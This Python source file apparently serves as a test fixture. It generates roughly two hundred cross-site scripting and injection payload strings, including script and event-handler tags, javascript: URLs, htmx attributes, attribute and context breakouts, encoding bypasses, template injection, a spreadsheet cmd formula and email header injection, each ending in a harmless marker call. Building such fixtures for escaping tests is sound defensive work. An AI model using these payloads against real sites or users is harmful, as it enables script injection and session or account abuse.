"""Two hundred texts that would be more than words, were they put in a page as they are. Each ends with a mark of its own."""

from __future__ import annotations

HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onblur", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle", "onbegin",
    "oninput", "onscroll", "onwheel", "oncopy", "onbeforetoggle", "onfocusin", "ontransitionend", "onpageshow", "onhashchange", "onmessage",
)  # fmt: skip
ELEMENTS = (
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<scr<script>ipt>RUN</script>", "<script src=//x.example/RUN></script>", "<script\n>RUN</script >",
    "<script/x>RUN</script>", "<script type=module>RUN</script>", "<svg><script>RUN</script></svg>", "<math><mtext><script>RUN</script>",
    "<iframe src=javascript:RUN>", "<iframe srcdoc='<script>RUN</script>'>", "<object data=javascript:RUN>", "<embed src=javascript:RUN>",
    "<a href=javascript:RUN>x</a>", "<a href='java\tscript:RUN'>x</a>", "<a href=' javascript:RUN'>x</a>", "<a href=\"&#106;avascript:RUN\">x</a>",
    "<a href=data:text/html,<script>RUN</script>>x</a>", "<a href=vbscript:RUN>x</a>", "<form action=javascript:RUN><button>x", "<button formaction=javascript:RUN>x",
    "<input type=image src=x formaction=javascript:RUN>", "<base href=//x.example/RUN>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<link rel=stylesheet href=//x.example/RUN>", "<link rel=import href=//x.example/RUN>", "<style>@import '//x.example/RUN';</style>",
    "<style>*{background:url(//x.example/RUN)}</style>", "<div style='background:url(javascript:RUN)'>", "<div style=width:expression(RUN)>",
    "<template><script>RUN</script></template>", "<noscript><img src=x onerror=RUN></noscript>", "<xmp><img src=x onerror=RUN></xmp>",
    "<table background=javascript:RUN>", "<body background=javascript:RUN>", "<video src=x onerror=RUN>", "<audio src=x onerror=RUN>", "<video><source onerror=RUN>",
    "<svg><a xlink:href=javascript:RUN><text y=9>x", "<svg><animate onbegin=RUN attributeName=x>", "<svg><use href=data:image/svg+xml,RUN>",
    "<svg><set attributeName=href to=javascript:RUN>", "<svg><foreignObject><iframe onload=RUN>", "<math href=javascript:RUN>x", "<isindex action=javascript:RUN>",
    "<details open ontoggle=RUN>x", "<dialog open onclose=RUN>", "<marquee onstart=RUN>", "<keygen autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>", "<input autofocus onfocus=RUN>", "<img src=x:x onerror=RUN>", "<img/src=x/onerror=RUN>", "<img src=x onerror\n=\nRUN>",
    "<img src=`x` onerror=RUN>", "<img src='x\"' onerror=RUN>", "<image src=x onerror=RUN>", "<x contenteditable onblur=RUN>x", "<x tabindex=1 onfocus=RUN>x",
    "<!--><img src=x onerror=RUN>-->", "<![CDATA[><img src=x onerror=RUN>]]>", "<?xml?><img src=x onerror=RUN>", "<!DOCTYPE x [<!ENTITY y 'RUN'>]>",
    "<math><mi//xlink:href='data:x,<script>RUN</script>'>", "<p id=x><a id=x name=y href=javascript:RUN>", "<img name=body src=x onerror=RUN>",
)  # fmt: skip
OF_HTMX = (
    "<div hx-get=/RUN hx-trigger=load>", "<div data-hx-get=/RUN data-hx-trigger=load>", "<div hx-on::load=RUN>", "<div hx-on:click=RUN>x", "<div hx-vals='js:RUN'>",
    "<div hx-vars=RUN>", "<div hx-headers='js:RUN'>", "<div hx-trigger='click[RUN]'>", "<div hx-ext=RUN>", "<div hx-swap-oob=true id=innehall>RUN</div>",
    "<div hx-post=/logga-ut/ hx-trigger=load>RUN", "<a hx-boost=true href=//x.example/RUN>x", "<div hx-sse=connect:/RUN>", "<div data-follow=/RUN data-stamp=x id=x>",
    "<div data-poll hx-get=/RUN>", "<form method=post action=/logga-ut/><button>RUN",
)  # fmt: skip
BREAKS = (
    '"><script>RUN</script>', "'><script>RUN</script>", '"><img src=x onerror=RUN>', "' onmouseover='RUN", '" onmouseleave="RUN', '" x onclick=RUN x="', "` onmouseover=RUN", '" autofocus onfocus="RUN',
    "' autofocus onfocus='RUN", '" style="x:RUN', '" href="javascript:RUN', "</textarea><script>RUN</script>", "</title><script>RUN</script>", "</script><script>RUN</script>",
    "</style><script>RUN</script>", "</option></select><script>RUN</script>", "</p></div></main><script>RUN</script>", "--><script>RUN</script>", "]]><script>RUN</script>",
    "';RUN//", '";RUN//', "\\';RUN//", '\\";RUN//', "${RUN}", "`;RUN//", "{{RUN}}", "{{constructor.constructor('RUN')()}}", "{% include 'RUN' %}", "{% load RUN %}", "{# #}RUN",
    "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "\x01javascript:RUN", "data:text/html;base64,RUN", "vbscript:RUN", "//x.example/RUN", "\\\\x.example\\RUN",
    "<", "<a", "<a href='", "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "&#x3c;script&#x3e;RUN", "%3Cscript%3ERUN%3C/script%3E",
    "\u003cscript\u003eRUN", "\\u003cscript\\u003eRUN", "\\x3cscript\\x3eRUN", "+ADw-script+AD4-RUN", "\uff1cscript\uff1eRUN", "\u2039script\u203aRUN", "<\u200bscript>RUN</script>",
    "<scr\u0000ipt>RUN</script>".replace("\0", "\u00ad"), "\u202e<script>RUN</script>", "<\u017fcript>RUN</\u017fcript>", "<ſvg onload=RUN>", "=cmd|' /C calc'!RUN",
    "BEGIN:VALARM;RUN", "a\nATTACH:javascript:RUN", "a\r\nBcc: RUN@x.example", "#link(\"javascript:RUN\")", "#eval(\"RUN\")", "(RUN) /JS /Launch", "https://x.example/\"onclick=RUN",
    "[x](javascript:RUN)", "![x](x\"onerror=RUN)", "<https://x.example/RUN>", "tel:\"><script>RUN</script>", "mailto:x@x.example?body=<script>RUN</script>",
)  # fmt: skip
RUN = "zqRan()"
ALL = tuple(
    text.replace("RUN", RUN)
    for text in (
        *ELEMENTS, *OF_HTMX, *BREAKS,
        *(f"<img src=x {name}=RUN>" for name in HANDLERS), *(f"<svg {name}=RUN>" for name in HANDLERS[:14]), *(f'" {name}="RUN' for name in HANDLERS[:14]),
    )  # fmt: skip
)
